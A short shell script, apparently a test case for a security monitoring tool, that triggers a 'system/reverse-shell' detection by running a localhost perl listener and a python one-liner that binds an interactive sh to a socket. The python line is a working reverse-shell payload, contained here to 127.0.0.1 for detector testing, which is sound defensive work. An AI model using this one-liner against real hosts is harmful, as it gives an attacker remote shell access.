#!/bin/sh
# action: RedirectStdoutStdinToNetworkConnection (python socket + os.dup2, exec sh -i)
# expect: system/reverse-shell
# where: host
d=$(mktemp -d /var/tmp/vrp.XXXXXX)
perl -MIO::Socket::INET -e '$l=IO::Socket::INET->new(LocalAddr=>"127.0.0.1:0",Listen=>1,ReuseAddr=>1) or die; open(my $p,">",$ARGV[0]); print $p $l->sockport; close $p; if($c=$l->accept){ print $c "exit\n"; sleep 2 }' "$d/port" &
sleep 1
python3 -c 'import socket,os,sys; s=socket.create_connection(("127.0.0.1", int(sys.argv[1]))); [os.dup2(s.fileno(), f) for f in (0,1,2)]; os.execv("/bin/sh", ["sh", "-i"])' "$(cat $d/port)"
wait; rm -rf "$d"
